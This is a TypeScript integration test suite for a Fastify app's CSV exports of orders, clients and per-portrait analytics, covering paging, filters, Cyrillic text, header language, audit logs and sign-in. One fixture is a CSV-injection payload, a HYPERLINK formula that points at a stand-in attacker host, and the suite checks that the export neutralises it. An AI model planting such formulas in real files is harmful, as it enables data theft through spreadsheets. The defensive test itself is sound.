import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAnalyticsRepo } from '../../src/modules/analytics/analytics.repo.js';
import { bearer, createTestApp, type LoggedIn, type TestApp } from '../support/app.js';
import { seedOrder, type SeededOrder } from '../support/seed-orders.js';

/** RFC 4180 with `;`: rows of cells; a quoted cell may hold `;`, `""` and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text.charAt(i);
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else if (c === '\n' || c === '\r') {
      throw new Error(`a bare line break outside quotes at ${i}`);
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) throw new Error('the last line does not end with CRLF');
  return rows;
}

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
const ORDERS = 125; // more than one export page (100)
const EVIL = '=HYPERLINK("http://evil.example/?leak","Click")';
const NOTE = 'Позвонить "до" обеда;\nпечать 20×30';

describe('CSV exports of orders, clients and analytics', () => {
  let t: TestApp;
  let operator: LoggedIn;
  const seeded: SeededOrder[] = [];

  const get = (url: string, headers: Record<string, string> = {}) =>
    t.app.inject({ url, headers: { ...bearer(operator), ...headers } });
  /** The file: checks the bytes every export must have, then its rows (header first). */
  function csvOf(response: LightMyRequestResponse): string[][] {
    expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.rawPayload.subarray(0, 3).equals(BOM)).toBe(true);
    const rows = parseCsv(response.rawPayload.subarray(3).toString('utf8'));
    const width = rows[0]?.length ?? 0;
    expect(width).toBeGreaterThan(3);
    for (const row of rows) expect(row).toHaveLength(width);
    return rows;
  }
  /** The ids of every page of a list API, in its order. */
  async function listIds(path: string, query: string): Promise<string[]> {
    const ids: string[] = [];
    for (let offset = 0; ; offset += 100) {
      const response = await get(`${path}?limit=100&offset=${offset}${query}`);
      expect(response.statusCode, response.body).toBe(200);
      const page = response.json<{ items: { id: string }[]; total: number }>();
      ids.push(...page.items.map((item) => item.id));
      if (ids.length >= page.total) return ids;
    }
  }

  beforeAll(async () => {
    t = await createTestApp();
    operator = await t.loginAs('operator');
    for (let i = 0; i < ORDERS; i++) {
      const name =
        i === 7
          ? EVIL
          : i % 3 === 0
            ? `Анна Петрова ${i}`
            : i % 3 === 1
              ? `Ёжиков ${i}`
              : `Bob ${i}`;
      seeded.push(
        await seedOrder(t, {
          clientName: name,
          phone: `+7912${String(10_000_000 + i).slice(1)}`,
          ...(i % 3 === 0 ? { email: `anna${i}@example.com` } : {}),
          status: i % 4 === 0 ? 'ready' : 'processing',
        }),
      );
      // Pairs share a creation time: the export's keyset must break ties as the list does.
      if (i % 2 === 1) t.clock.advance(1000);
    }
    const note = seeded[4];
    if (note === undefined) throw new Error('no order 4');
    await t.ctx.services.notesService.setOrderNotes(note.orderId, NOTE, {
      userId: operator.userId,
      ip: null,
    });
    await t.ctx.services.notesService.setClientNotes(note.clientId, NOTE, {
      userId: operator.userId,
      ip: null,
    });
  });
  afterAll(() => t.close());

  it('exports every order, a page at a time, with the same ids in the same order as the list', async () => {
    const response = await get('/api/orders/export.csv');
    const [header, ...rows] = csvOf(response);
    expect(header).toEqual([
      'ID заказа',
      'Номер заказа',
      'Создан (UTC)',
      'Статус',
      'Клиент',
      'Телефон',
      'Ссылка на портрет',
      'Заметки',
    ]);
    expect(rows).toHaveLength(ORDERS);
    expect(rows.map((row) => row[0])).toEqual(await listIds('/api/orders', ''));
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="orders-${t.clock.now().toISOString().slice(0, 10)}.csv"`,
    );
    expect(response.headers['cache-control']).toBe('no-store');
    // CRLF line ends; the only bare LF is the one inside the quoted note.
    const body = response.rawPayload.toString('utf8');
    expect(body.split('\r\n')).toHaveLength(ORDERS + 2);
    expect(body.replace(/\r\n/g, '').split('\n')).toHaveLength(2);
  });

  it('writes Cyrillic, ISO dates, E.164 phones and the note intact', async () => {
    const [, ...rows] = csvOf(await get('/api/orders/export.csv'));
    const third = seeded[4];
    const row = rows.find((r) => r[0] === third?.orderId);
    const detail = (await get(`/api/orders/${third?.orderId ?? ''}`)).json<{
      number: string;
      createdAt: string;
      portrait: { publicUrl: string };
    }>();
    expect(row).toEqual([
      third?.orderId,
      detail.number,
      detail.createdAt,
      'Готов',
      'Ёжиков 4',
      "'+79120000004", // E.164, guarded like any text starting with +
      detail.portrait.publicUrl,
      NOTE,
    ]);
    expect(detail.createdAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
  });

  it('keeps a formula in a name as text (CSV injection guard)', async () => {
    const [, ...rows] = csvOf(await get('/api/orders/export.csv'));
    const evil = rows.find((r) => r[0] === seeded[7]?.orderId);
    expect(evil?.[4]).toBe(`'${EVIL}`);
    const raw = (await get('/api/clients/export.csv')).rawPayload.toString('utf8');
    expect(raw).not.toMatch(/(^|;|\r\n)"?=HYPERLINK/);
    expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?leak"",""Click"")"`);
  });

  it('exports what the filtered list shows: search, status and dates', async () => {
    const day = t.clock.now().toISOString().slice(0, 10);
    for (const query of [
      '&q=анна',
      '&q=ЁЖИКОВ&status=ready',
      '&status=ready',
      `&from=${day}`,
      '&q=912000001',
    ]) {
      const [, ...rows] = csvOf(await get(`/api/orders/export.csv?${query.slice(1)}`));
      const ids = await listIds('/api/orders', query);
      expect(ids.length, query).toBeGreaterThan(0);
      expect(
        rows.map((row) => row[0]),
        query,
      ).toEqual(ids);
    }
    const none = csvOf(await get('/api/orders/export.csv?q=nobody-at-all'));
    expect(none).toHaveLength(1); // the header alone
  });

  it('writes the header in the language asked, else the browser’s, else Russian', async () => {
    const header = async (query: string, headers: Record<string, string> = {}) =>
      csvOf(await get(`/api/orders/export.csv${query}`, headers))[0]?.[1];
    expect(await header('')).toBe('Номер заказа');
    expect(await header('?lang=en')).toBe('Order number');
    expect(await header('', { 'accept-language': 'en-GB,en;q=0.9' })).toBe('Order number');
    expect(await header('?lang=ru', { 'accept-language': 'en' })).toBe('Номер заказа');
    const [, first] = csvOf(await get('/api/orders/export.csv?lang=en&status=ready'));
    expect(first?.[3]).toBe('Ready');
    expect((await get('/api/orders/export.csv?lang=de')).statusCode).toBe(400);
  });

  it('refuses a bad filter with a JSON error before any byte of CSV', async () => {
    const response = await get('/api/orders/export.csv?from=2026-13-45');
    expect(response.statusCode).toBe(400);
    expect(response.json<{ error: { code: string } }>().error.code).toBe('validation_failed');
  });

  it('exports the clients list with its search, beyond one page, with notes', async () => {
    const all = csvOf(await get('/api/clients/export.csv?lang=en'));
    const [header, ...rows] = all;
    expect(header).toEqual([
      'Client ID',
      'Name',
      'Phone',
      'E-mail',
      'Portraits',
      'Client since (UTC)',
      'Notes',
    ]);
    expect(rows).toHaveLength(ORDERS);
    expect(rows.map((row) => row[0])).toEqual(await listIds('/api/clients', ''));
    const noted = rows.find((row) => row[0] === seeded[4]?.clientId);
    expect(noted?.slice(1, 5)).toEqual(['Ёжиков 4', "'+79120000004", '', '1']);
    expect(noted?.[6]).toBe(NOTE);
    for (const query of ['&q=АННА', '&q=anna9', '&q=8 912 000-00-1']) {
      const [, ...found] = csvOf(await get(`/api/clients/export.csv?${query.slice(1)}`));
      const ids = await listIds('/api/clients', `&q=${encodeURIComponent(query.slice(3))}`);
      expect(ids.length, query).toBeGreaterThan(0);
      expect(
        found.map((row) => row[0]),
        query,
      ).toEqual(ids);
    }
  });

  it('exports per-portrait daily analytics over the range, matching the summary', async () => {
    const analytics = createAnalyticsRepo();
    const db = t.ctx.database.db;
    const today = t.clock.now().toISOString().slice(0, 10);
    const yesterday = new Date(t.clock.now().getTime() - 86_400_000).toISOString().slice(0, 10);
    const long = new Date(t.clock.now().getTime() - 40 * 86_400_000).toISOString().slice(0, 10);
    // 110 portraits viewed today (more than a page), one also yesterday, one long ago.
    for (const order of seeded.slice(0, 110)) {
      await analytics.increment(db, order.portraitId, today, 'pageViews');
    }
    const first = seeded[0]?.portraitId ?? '';
    for (const counter of [
      'pageViews',
      'pageViews',
      'arStarts',
      'markersFound',
      'videoPlays',
    ] as const) {
      await analytics.increment(db, first, yesterday, counter);
    }
    await analytics.increment(db, first, long, 'pageViews');

    const [header, ...rows] = csvOf(await get('/api/analytics/export.csv?days=30'));
    expect(header?.[0]).toBe('День (UTC)');
    expect(rows).toHaveLength(111);
    expect(rows[0]).toEqual([
      yesterday,
      first,
      expect.any(String),
      'Анна Петрова 0',
      '2',
      '1',
      '1',
      '1',
    ]);
    const sorted = [...rows].sort((a, b) => (`${a[0]} ${a[1]}` < `${b[0]} ${b[1]}` ? -1 : 1));
    expect(rows).toEqual(sorted);
    const summary = (await get('/api/analytics/summary?days=30')).json<{
      totals: { pageViews: number };
    }>();
    expect(rows.reduce((sum, row) => sum + Number(row[4]), 0)).toBe(summary.totals.pageViews);

    const one = csvOf(await get(`/api/analytics/export.csv?days=60&portraitId=${first}`));
    expect(one.slice(1).map((row) => row[0])).toEqual([long, yesterday, today]);
    const unknown = await get(
      '/api/analytics/export.csv?portraitId=01900000-0000-7000-8000-000000000000',
    );
    expect(unknown.statusCode).toBe(404);
  });

  it('records each download in the audit log, without the search text', async () => {
    await get('/api/orders/export.csv?q=анна&status=ready');
    const entry = await t.ctx.database.db
      .selectFrom('auditLog')
      .select(['action', 'actorUserId', 'details'])
      .where('action', '=', 'order.export')
      .orderBy('seq', 'desc')
      .executeTakeFirstOrThrow();
    expect(entry.actorUserId).toBe(operator.userId);
    expect(JSON.parse(entry.details ?? '{}')).toEqual({ status: 'ready', searched: true });
    const kinds = await t.ctx.database.db
      .selectFrom('auditLog')
      .select('action')
      .distinct()
      .where('action', 'in', ['order.export', 'client.export', 'analytics.export'])
      .execute();
    expect(kinds.map((k) => k.action).sort()).toEqual([
      'analytics.export',
      'client.export',
      'order.export',
    ]);
  });

  it('is for signed-in people only', async () => {
    for (const url of [
      '/api/orders/export.csv',
      '/api/clients/export.csv',
      '/api/analytics/export.csv',
    ]) {
      expect((await t.app.inject({ url })).statusCode).toBe(401);
    }
  });
});
